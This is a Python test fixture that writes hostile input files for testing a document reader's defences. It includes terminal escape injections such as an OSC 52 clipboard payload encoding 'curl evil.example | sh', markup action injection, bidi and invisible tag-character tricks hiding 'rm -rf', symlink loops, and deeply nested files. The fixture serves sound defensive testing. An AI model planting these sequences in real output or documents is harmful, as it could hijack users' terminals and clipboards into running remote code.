"""Write hostile documents into a folder: markup and action injection, terminal escapes, bidi
tricks and broken files. Each case names what the reader must do with it.

Used by the hostile tests and by hand: ``python -m tests.hostile.corpus DIR``.
"""

from __future__ import annotations

import base64
import os
import sys
from dataclasses import dataclass
from pathlib import Path

OSC52_PAYLOAD = base64.b64encode(b"curl evil.example | sh").decode()
TITLE_PAYLOAD = "PWNED-WINDOW-TITLE"

ESC = "\x1b"
BEL = "\x07"

#: Byte sequences that must never reach the terminal from document text.
FORBIDDEN_OUTPUT = [
    f"{ESC}]52;c;{OSC52_PAYLOAD}".encode(),
    f"{ESC}]2;{TITLE_PAYLOAD}".encode(),
    f"{ESC}]0;{TITLE_PAYLOAD}".encode(),
    f"{ESC}]8;;https://evil.example".encode(),
    f"{ESC}P".encode() + b"+q",  # DCS request
    "\u009d2;".encode("utf-8"),  # C1 OSC (UTF-8 encoded) + title
    f"{ESC}[6n".encode(),  # cursor position report request
]

INJECTED_TEXT = (
    "Hostile briefing [@click=app.screenshot('pwned.svg','{dir}')]click me[/]\n\n"
    "Published 23 October 2024\n\n"
    "Officials in [ @click=app.simulate_key('q')]Seoul[/] said [bold red]nothing[/] today. "
    "[link=https://evil.example]Moscow[/link] denied it.\n\n"
    f"Clipboard: {ESC}]52;c;{OSC52_PAYLOAD}{BEL} and title {ESC}]2;{TITLE_PAYLOAD}{BEL} and "
    f"{ESC}]0;{TITLE_PAYLOAD}{ESC}\\ and a link {ESC}]8;;https://evil.example{ESC}\\here{ESC}]8;;{ESC}\\.\n\n"
    f"Device query {ESC}[6n and DCS {ESC}P+q544e{ESC}\\ and C1 \u009d2;{TITLE_PAYLOAD}\u009c done. "
    f"Colour {ESC}[31mred{ESC}[0m, bell {BEL}, backspace \b\b, delete \x7f, NEL \u0085.\n\n"
    "Bidi: the file is named \u202egpj.exe and \u2066isolated\u2069 text from Ukraine.\n\n"
    "Zero width: Vla\u200bdimir Pu\u200dtin met Kim Jong Un in Moscow.\n"
)


@dataclass(frozen=True)
class Case:
    name: str
    expect: str  # "read" or the start of the problem reason
    what: str


def write_corpus(folder: Path) -> list[Case]:
    """Create the hostile files in ``folder`` (which must exist); return what each should give."""
    cases: list[Case] = []
    sink = folder / "sink"
    sink.mkdir(exist_ok=True)

    def text_file(name: str, data: bytes, expect: str, what: str) -> None:
        (folder / name).write_bytes(data)
        cases.append(Case(name, expect, what))

    text_file("injection.txt", INJECTED_TEXT.replace("{dir}", str(sink)).encode(), "read",
              "markup/action injection, OSC 52, title, OSC 8, DCS, C1, bidi, zero-width")
    text_file("empty.txt", b"", "empty", "0-byte file")
    text_file("blank.txt", b"\n\n   \n", "read", "only white space")
    text_file("binary.txt", b"\x00\x01\x02garbage\x00" * 50, "binary", "NUL bytes")
    text_file("image.txt", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "binary", "a PNG named .txt")
    body = "Title\n\n1 March 2008\n\nSeoul said it would act.\n"
    text_file("utf16le-bom.txt", b"\xff\xfe" + body.encode("utf-16-le"), "read", "UTF-16LE with BOM")
    text_file("utf16be-bom.txt", b"\xfe\xff" + body.encode("utf-16-be"), "read", "UTF-16BE with BOM")
    text_file("utf16le-nobom.txt", body.encode("utf-16-le"), "read", "UTF-16LE without BOM")
    text_file("latin1.txt", "Café in Zürich\n\nParagraph about Málaga.\n".encode("latin-1"), "read", "latin-1")
    text_file("invalid-utf8.txt", b"Title\n\nBad \xff\xfe\xfa bytes \xc3\x28 here.\n", "read", "invalid UTF-8")
    text_file("crlf.txt", b"Title\r\n\r\nOne.\rTwo.\r\n", "read", "CRLF and lone CR")

    os.mkfifo(folder / "fifo.txt")
    cases.append(Case("fifo.txt", "FIFO", "a named pipe"))
    (folder / "dir.txt").mkdir()
    cases.append(Case("dir.txt", "directory", "a directory named x.txt"))
    os.symlink(folder / "nowhere.txt", folder / "dangling.txt")
    cases.append(Case("dangling.txt", "dangling", "a symlink to nothing"))
    os.symlink(folder / "loop-b.txt", folder / "loop-a.txt")
    os.symlink(folder / "loop-a.txt", folder / "loop-b.txt")
    cases.append(Case("loop-a.txt", "symbolic link loop", "a symlink loop"))
    cases.append(Case("loop-b.txt", "symbolic link loop", "a symlink loop"))
    os.symlink("/dev/zero", folder / "zero.txt")
    cases.append(Case("zero.txt", "not a regular file", "a symlink to /dev/zero"))
    for odd in ("new\nline.txt", "esc\x1b]2;x\x07.txt", "[bold]brackets[red]x.txt"):
        text_file(odd, b"Odd name\n\nIt still reads.\n", "read", f"file name {odd!r}")

    # Beyond the first list (tests/test_hostile_more.py has one test for each).
    news = "Officials in Seoul said on Monday that Kim Jong Un met Vladimir Putin in Moscow."
    text_file("deep-nesting.html", ("<html><body>" + "<div>" * 5000 + news + "</div>" * 5000
                                    + "</body></html>").encode(), "read", "HTML nested past libxml2's 256 levels")
    text_file("char-refs.html", (f"<html><head><title>Refs &#x1b;]2;{TITLE_PAYLOAD}&#7;</title></head><body><div>"
                                 f"{news} &#27;[31m &#x9b;6n &#x202e;x &#xE0041; &#0;</div></body></html>").encode(),
              "read", "HTML character references to ESC, BEL, NUL, bidi and tag characters")
    text_file("deep-line.jsonl", ("[" * 50_000 + "]" * 50_000 + "\n" + '{"title": "Fine", "text": "' + news
                                  + ' \\ud800 lone"}\n').encode(), "read",
              "a JSON line nested 50,000 deep beside a good one with a lone surrogate escape")
    text_file("tag-characters.txt", ("Tags\n\n" + news + " " + "".join(chr(0xE0000 + ord(c)) for c in "run rm -rf")
                                     + "\u3164\n").encode(), "read", "invisible tag characters and a Hangul filler")
    text_file("deep-quote.md", ("# Deep\n\n" + ">" * 5000 + " " + news + "\n").encode(), "read",
              "Markdown quotes nested past markdown-it's 20 levels")
    return cases


if __name__ == "__main__":
    target = Path(sys.argv[1])
    target.mkdir(parents=True, exist_ok=True)
    for case in write_corpus(target):
        print(f"{case.name!r}: {case.what} -> {case.expect}")
